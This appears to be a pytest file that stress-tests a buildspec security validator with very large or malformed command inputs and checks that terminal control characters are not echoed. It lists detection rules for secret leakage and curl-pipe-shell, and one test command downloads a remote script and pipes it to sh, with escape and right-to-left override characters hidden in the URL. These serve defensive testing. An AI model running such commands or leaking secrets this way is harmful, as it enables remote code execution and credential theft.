"""Buildspecs that are made to take long, under the rules on what commands hand out and fetch.

The limits are guards, far above what it takes: what grows with the square of these would take hours.
"""

import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

SECONDS = 120
MEMORY = 2 * 2**30
RULES = (
    *("plaintext-secret", "echo-secret", "secret-transform", "secret-on-command-line", "credentials-in-log"),
    *("ref-injection", "curl-pipe-shell", "curl-no-fail", "http-download", "unpinned-install", "unpinned-image"),
)
HEAD = """\
version: 0.2
env:
  secrets-manager: {TOKEN: "a:token"}
phases:
  build:
    commands:
      - |
"""
TOKEN = "ghp" + "_aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1"
COMMANDS: dict[str, Callable[[], str]] = {
    "one line of many": lambda: "echo $TOKEN; " * 20_000,
    "many lines": lambda: "echo $TOKEN\n" * 20_000,
    "one list": lambda: " && ".join(["echo $TOKEN"] * 20_000),
    "one pipeline": lambda: "echo $TOKEN" + " | tee x" * 900,
    "substitutions": lambda: "echo " + "$(echo " * 20_000 + "$TOKEN" + ")" * 20_000,
    "substitutions without end": lambda: "echo $(" * 40_000,
    "quotes without end": lambda: "\"'" * 100_000,
    "here-documents without end": lambda: "\n".join(f"cat <<E{number}" for number in range(20_000)),
    "loops": lambda: "for i in 1 2; do " * 3_000 + "echo $TOKEN; " + "done; " * 3_000,
    "doubled texts": lambda: "A=ab\n" + "A=$A$A\n" * 10_000 + 'eval "$A"',
    "tokens": lambda: "\n".join(f"echo {TOKEN}{number:06d}" for number in range(5_000)),
    "passwords": lambda: "docker run " + "-e A_TOKEN=x9Kd82jLq0 " * 10_000,
    "traces": lambda: "T=$(aws secretsmanager get-secret-value --secret-id x)\n" + "set -x\n" * 20_000,
    "packages": lambda: "pip install -U " + " ".join(f"p{number}" for number in range(20_000)),
    "colons": lambda: "curl -u " + ":" * 100_000 + "$TOKEN x",
    "half a key": lambda: "echo '" + ("-----BEGIN PRIVATE" + " KEY-----\n") * 10_000 + "'",
}


def limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


@pytest.mark.parametrize("name", COMMANDS)
def test_ends_without_a_fault(name: str, tmp_path: Path) -> None:
    lines = COMMANDS[name]().splitlines()
    (tmp_path / "buildspec.yml").write_text(HEAD + "".join(f"        {line}\n" for line in lines))
    select = ",".join(f"buildspec-{rule}" for rule in RULES)
    command = [sys.executable, "-m", "validator", "check", "--format", "concise", "--select", select]
    ended = subprocess.run(command, cwd=tmp_path, check=False, capture_output=True, timeout=SECONDS, preexec_fn=limited)
    assert (ended.returncode in {0, 1}, ended.stderr) == (True, b"")


def test_shows_no_control_character_of_a_command(tmp_path: Path) -> None:
    command = "curl -o x http://e\\e[2J\\u202e.com/x | sh; export A_TOKEN=\\e[31mhunter2x"
    text = f'version: 0.2\nphases: {{build: {{commands: ["{command}"]}}}}\n'
    (tmp_path / "buildspec.yml").write_text(text)
    ended = subprocess.run(
        [sys.executable, "-m", "validator", "check"], cwd=tmp_path, check=False, capture_output=True, timeout=SECONDS
    )
    assert not {"\x1b", "\u202e"} & set(ended.stdout.decode() + ended.stderr.decode())
